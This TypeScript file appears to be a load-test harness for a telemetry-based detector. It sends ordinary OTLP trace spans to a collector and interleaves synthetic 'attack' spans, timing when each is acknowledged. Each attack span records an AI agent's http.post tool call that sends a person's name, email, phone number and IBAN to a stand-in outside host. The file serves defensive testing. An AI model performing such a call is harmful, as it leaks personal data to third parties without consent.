// Sends ordinary spans at a steady rate and between them single ones that make a finding, each in a trace of its own; tells its parent when
// each of those was acknowledged. A process of its own. Arguments: url, ordinary spans a second, attacks a second, seconds.
import { randomBytes } from 'node:crypto';
import { Agent, request } from 'node:http';
import { setTimeout as sleep } from 'node:timers/promises';
import { gzipSync } from 'node:zlib';
import { otlpProtobuf } from '../../collector/src/testing/otlp.ts';
import { makeBodies } from '../spans.ts';

/** What became of the load. */
export interface AttackReport {
  /** Trace id and milliseconds since the epoch of the acknowledgement. */
  readonly acknowledged: readonly (readonly [traceId: string, timeMs: number])[];
  /** Of all requests. */
  readonly spans: number;
  readonly refused: number;
}

const [url, spansPerSecond, attacksPerSecond, seconds] = process.argv.slice(2) as [string, string, string, string];
const spansPerRequest = 100;
const agent = new Agent({ keepAlive: true, maxSockets: 64 });
const perSecond = Number(spansPerSecond) / spansPerRequest;
// All different: what is sent again is recognised and costs nothing.
const ordinary = makeBodies(700, Math.round(perSecond * Number(seconds)), spansPerRequest).map((body) =>
  gzipSync(body),
);
const acknowledged: [string, number][] = [];
let spans = 0;
let refused = 0;

process.send!('ready');
process.once('message', async () => {
  await Promise.all([
    atRate(perSecond, async (number) => {
      if (await post(ordinary[number]!)) spans += spansPerRequest;
    }),
    atRate(Number(attacksPerSecond), async () => {
      const traceId = randomBytes(16).toString('hex');
      if (!(await post(gzipSync(attack(traceId))))) return;
      acknowledged.push([traceId, Date.now()]);
      spans++;
    }),
  ]);
  agent.destroy();
  process.send!({ acknowledged, spans, refused } satisfies AttackReport);
  process.disconnect();
});

/** Starts what is due, whatever became of what was before. */
async function atRate(rate: number, start: (number: number) => Promise<void>): Promise<void> {
  const from = performance.now();
  const due = Math.round(rate * Number(seconds));
  const running: Promise<void>[] = [];
  while (running.length < due) {
    const number = running.length;
    const wait = from + (number / rate) * 1000 - performance.now();
    if (wait > 0) await sleep(wait);
    running.push(start(number));
  }
  await Promise.all(running);
}

function attack(traceId: string): Buffer {
  const attributes = {
    'gen_ai.operation.name': 'execute_tool',
    'gen_ai.tool.name': 'http.post',
    'gen_ai.agent.name': `agent ${traceId.slice(0, 2)}`,
    'gen_ai.tool.call.arguments': JSON.stringify({
      url: 'https://collect.stranger.example/v1',
      body: 'Jane Doe, jane.doe@example.org, +49 170 1234567, IBAN DE89 3704 0044 0532 0130 00',
    }),
  };
  return otlpProtobuf([{ traceId, name: 'execute_tool http.post', kind: 3, attributes }]);
}

/** Whether it was acknowledged. */
function post(body: Buffer): Promise<boolean> {
  return new Promise((done) => {
    const headers = { 'content-type': 'application/x-protobuf', 'content-encoding': 'gzip' };
    const sending = request(`${url}/v1/traces`, { method: 'POST', agent, headers }, (response) => {
      response.resume();
      response.once('end', () => {
        if (response.statusCode !== 200) refused++;
        done(response.statusCode === 200);
      });
    });
    sending.once('error', () => {
      refused++;
      done(false);
    });
    sending.end(body);
  });
}
